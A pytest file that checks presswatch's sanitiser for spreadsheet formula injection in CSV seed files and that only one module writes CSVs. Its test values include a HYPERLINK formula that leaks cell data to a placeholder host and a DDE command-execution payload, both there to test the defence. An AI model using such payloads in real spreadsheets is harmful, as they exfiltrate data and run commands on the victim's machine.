"""Cells presswatch writes into seed files: one line each, and nothing a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from transforms.seed_cells import seed_csv, spreadsheet_safe


class TestSpreadsheetSafe:
    @pytest.mark.parametrize(
        ("value", "expected"),
        [
            ('=HYPERLINK("http://x/?"&A1,"Click")', '\'=HYPERLINK("http://x/?"&A1,"Click")'),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("+972 Magazine", "'+972 Magazine"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("\t=1+1", "'=1+1"),
            ("\r=1+1", "'=1+1"),
            ("  =1+1", "'=1+1"),
        ],
    )
    def test_a_cell_a_spreadsheet_would_evaluate_is_kept_as_text(self, value: str, expected: str) -> None:
        """A cell that would start with = + - @ (after controls and spaces are gone) gets a leading apostrophe."""
        assert spreadsheet_safe(value) == expected

    @pytest.mark.parametrize(
        ("value", "expected"),
        [
            ("Politics\nHome", "Politics Home"),
            ("Politics\r\n\r\nHome", "Politics Home"),
            ("Sport\tand\x0bmore\x85here\u2028too", "Sport and more here too"),
            ("bell\x07\x00\x1f\x7fend", "bell end"),
        ],
    )
    def test_control_characters_become_one_space(self, value: str, expected: str) -> None:
        """Newlines, tabs and other C0/C1 controls in a cell collapse to a space, so a row stays one line."""
        assert spreadsheet_safe(value) == expected

    @pytest.mark.parametrize(
        "value",
        ["-12", "-12.5", "+3", "-1e3", "https://x.example/?a=1&b=@c", "The Harrowby Post", "Le Monde – À la une", ""],
    )
    def test_numbers_urls_and_names_are_kept_as_they_are(self, value: str) -> None:
        """A negative number is not a formula, nor is a URL or an ordinary name."""
        assert spreadsheet_safe(value) == value

    @pytest.mark.parametrize("value", ["=1+1", "@x", "a\nb", "\t-x", "'=kept"])
    def test_twice_is_the_same_as_once(self, value: str) -> None:
        """Cleaning a cell already written changes nothing, so rewriting a seed file never stacks apostrophes."""
        assert spreadsheet_safe(spreadsheet_safe(value)) == spreadsheet_safe(value)


class TestSeedCsv:
    def test_every_cell_of_every_record_is_cleaned(self) -> None:
        """The text has one line per record and no cell a spreadsheet would evaluate."""
        text = seed_csv([["source_id", "name"], ["x", "=HYPERLINK(1)\nsecond line"], ["y", "-3"]])

        assert text.splitlines() == ["source_id,name", "x,'=HYPERLINK(1) second line", "y,-3"]
        assert list(csv.reader(io.StringIO(text)))[1] == ["x", "'=HYPERLINK(1) second line"]


class TestOneWriter:
    def test_seed_files_are_written_only_through_seed_csv(self) -> None:
        """No module but seed_cells makes a CSV writer, except the two that never write a seed file."""
        project = Path(__file__).resolve().parents[2]
        # Query answers printed by `presswatch sql --csv`, and rows re-serialised in memory while checking seeds.
        not_seeds = {"flows/interface/sql_output.py", "transforms/seed_check.py", "transforms/seed_cells.py"}

        writers = {
            str(path.relative_to(project))
            for folder in ("flows", "transforms", "warehouse")
            for path in (project / folder).rglob("*.py")
            if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
        }

        assert writers - not_seeds == set()
